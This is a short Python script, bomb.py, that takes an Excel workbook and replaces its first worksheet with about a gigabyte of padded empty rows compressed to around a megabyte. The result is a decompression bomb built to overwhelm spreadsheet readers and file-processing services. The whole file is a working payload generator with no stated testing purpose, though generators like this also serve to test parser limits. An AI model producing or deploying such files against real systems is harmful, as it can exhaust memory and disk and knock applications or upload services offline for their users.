#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""bomb.py BOOK.xlsx OUT.xlsx: the workbook with a first sheet of one gigabyte of empty rows, which packs to one megabyte."""
import sys
import zipfile

SHEET = "xl/worksheets/sheet1.xml"


def main():
    with zipfile.ZipFile(sys.argv[1]) as book, zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED, compresslevel=6) as out:
        for name in book.namelist():
            if name != SHEET:
                out.writestr(name, book.read(name))
        head = book.read(SHEET).split(b"<sheetData")[0] + b"<sheetData>"
        with out.open(SHEET, "w", force_zip64=True) as sheet:
            sheet.write(head)
            for _ in range(1000):
                sheet.write(b"<row></row>".ljust(20) * 50000)
            sheet.write(b"</sheetData></worksheet>")


if __name__ == "__main__":
    main()
